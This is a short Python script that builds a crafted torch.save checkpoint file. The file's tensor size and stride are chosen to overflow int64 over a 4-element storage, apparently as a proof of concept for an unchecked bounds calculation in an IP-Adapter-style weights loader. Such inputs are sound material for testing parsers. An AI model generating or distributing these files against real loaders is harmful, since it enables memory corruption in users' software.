#!/usr/bin/env python3
"""torch_overflow_bin.py OUT.bin — a crafted torch.save file whose one tensor's size and stride
wrap int64 ((2^24 - 1) * 2^40 + ...), over a 4-element storage: a reader that multiplies without
checking computes a "last element" inside the storage. Standard library only (no torch): the
pickle is made by Python's pickler over stand-in `torch` globals, as torch.save lays it out."""
import io, pickle, sys, types, zipfile
from collections import OrderedDict

torch = types.ModuleType("torch"); utils = types.ModuleType("torch._utils")
sys.modules["torch"], sys.modules["torch._utils"] = torch, utils
class FloatStorage: pass
FloatStorage.__module__ = "torch"; torch.FloatStorage = FloatStorage
def _rebuild_tensor_v2(*a): pass
_rebuild_tensor_v2.__module__ = "torch._utils"; utils._rebuild_tensor_v2 = _rebuild_tensor_v2

class Tensor:
    def __reduce__(self):  # (storage, offset, size, stride, requires_grad, hooks)
        return (_rebuild_tensor_v2, (Storage(), 0, (1 << 24, 1 << 24), (1 << 40, 1 << 40), False, OrderedDict()))
class Storage: pass

class P(pickle.Pickler):
    def persistent_id(self, o):
        return ("storage", FloatStorage, "0", "cpu", 4) if isinstance(o, Storage) else None

buf = io.BytesIO()
P(buf, protocol=2).dump({"image_proj": OrderedDict([("w", Tensor())]), "ip_adapter": OrderedDict()})
with zipfile.ZipFile(sys.argv[1], "w", zipfile.ZIP_STORED) as z:
    z.writestr("archive/data.pkl", buf.getvalue())
    z.writestr("archive/data/0", bytes(16))
    z.writestr("archive/version", "3\n")
